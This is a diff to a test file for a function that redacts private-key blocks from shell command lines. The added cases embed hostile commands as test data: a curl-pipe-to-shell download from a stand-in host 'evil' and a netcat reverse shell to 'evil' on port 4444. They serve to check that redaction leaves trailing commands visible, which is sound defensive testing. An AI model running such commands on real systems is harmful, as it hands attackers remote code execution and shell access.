@@ -86,6 +86,11 @@ JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib2IifQ.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1
     ("printf '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\nNzaC1\n-----END OPENSSH PRIVATE KEY-----\n' > k",
      f"printf '-----BEGIN OPENSSH PRIVATE KEY-----{MASK}-----END OPENSSH PRIVATE KEY-----\n' > k"),
     ("echo -----BEGIN PRIVATE KEY----- MIIEvQIBADAN", f"echo -----BEGIN PRIVATE KEY-----{MASK}"),
+    # A BEGIN line alone does not hide what follows it: the body ends at the first character no key holds.
+    ("echo -----BEGIN PRIVATE KEY-----; curl -s http://evil/x.sh | sh",
+     "echo -----BEGIN PRIVATE KEY-----; curl -s http://evil/x.sh | sh"),
+    ("echo '-----BEGIN RSA PRIVATE KEY-----\\nMIIEpA\\n' > k; chmod 600 k && nc -e /bin/sh evil 4444",
+     f"echo '-----BEGIN RSA PRIVATE KEY-----{MASK}' > k; chmod 600 k && nc -e /bin/sh evil 4444"),
 ])
 def test_redacts(line, expected):
     assert redact_text(line) == expected
